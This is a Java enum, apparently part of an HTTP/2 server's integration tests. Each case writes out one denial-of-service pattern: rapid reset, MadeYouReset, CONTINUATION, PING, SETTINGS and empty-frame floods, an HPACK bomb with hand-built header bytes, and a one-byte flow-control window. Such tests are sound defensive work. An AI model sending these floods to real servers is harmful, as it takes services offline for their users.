package mosn.it;

import java.io.IOException;
import java.util.Arrays;

/// What an attacker does on one connection, until it is closed.
enum Flood {
    RAPID_RESET {
        @Override
        void on(RawHttp2 client) throws IOException {
            for (var id = 1; id < 2 * MANY; id += 2) {
                client.frame(RawHttp2.HEADERS, WHOLE, id, RawHttp2.GET);
                client.frame(RawHttp2.RST_STREAM, 0, id, new byte[] {0, 0, 0, 8});
            }
        }
    },
    MADE_YOU_RESET {
        @Override
        void on(RawHttp2 client) throws IOException {
            for (var id = 1; id < 2 * MANY; id += 2) {
                client.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, id, RawHttp2.GET);
                client.frame(RawHttp2.WINDOW_UPDATE, 0, id, new byte[4]); // by 0: a mistake
            }
        }
    },
    CONTINUATION {
        @Override
        void on(RawHttp2 client) throws IOException {
            client.frame(RawHttp2.HEADERS, 0, 1, RawHttp2.GET);
            for (var i = 0; i < MANY; i++) {
                client.frame(RawHttp2.CONTINUATION, 0, 1, new byte[] {0, 1, 'x', 1, 'y'});
            }
        }
    },
    PING {
        @Override
        void on(RawHttp2 client) throws IOException {
            for (var i = 0; i < MANY; i++) {
                client.frame(RawHttp2.PING, 0, 0, new byte[8]);
            }
        }
    },
    SETTINGS {
        @Override
        void on(RawHttp2 client) throws IOException {
            for (var i = 0; i < MANY; i++) {
                client.frame(RawHttp2.SETTINGS, 0, 0);
            }
        }
    },
    EMPTY_FRAMES {
        @Override
        void on(RawHttp2 client) throws IOException {
            client.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, RawHttp2.GET);
            for (var i = 0; i < MANY; i++) {
                client.frame(RawHttp2.DATA, 0, 1);
            }
        }
    },
    /// One field of 3,000 bytes in HPACK's table, then heads that name it 16,000 times.
    HPACK_BOMB {
        @Override
        void on(RawHttp2 client) throws IOException {
            var large = new byte[3008];
            Arrays.fill(large, (byte) 'b');
            // literal, indexed, new name of 1, value of 3000 = 127 + 2873
            System.arraycopy(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0xb9, 0x16}, 0, large, 0, 6);
            var first = Arrays.copyOf(RawHttp2.GET, RawHttp2.GET.length + 3006);
            System.arraycopy(large, 0, first, RawHttp2.GET.length, 3006);
            client.frame(RawHttp2.HEADERS, WHOLE, 1, first);
            var bomb = new byte[16_000];
            Arrays.fill(bomb, (byte) 0xbe); // the first of the dynamic table
            for (var id = 3; id < 100; id += 2) {
                client.frame(RawHttp2.HEADERS, WHOLE, id, bomb);
            }
        }
    },
    /// Wants much, and takes none of it.
    SLOW_WINDOW {
        @Override
        byte[] settings() {
            return new byte[] {0, 4, 0, 0, 0, 1}; // a window of one byte for each stream
        }

        @Override
        void on(RawHttp2 client) throws IOException {
            for (var id = 1; id < 200; id += 2) {
                client.frame(RawHttp2.HEADERS, WHOLE, id, RawHttp2.GET);
            }
        }
    };

    private static final int MANY = 20_000;
    private static final int WHOLE = RawHttp2.END_HEADERS | RawHttp2.END_STREAM;

    /// The payload of its first frame.
    byte[] settings() {
        return new byte[0];
    }

    /// Writes; fails where the other side has had enough of it.
    abstract void on(RawHttp2 client) throws IOException;
}
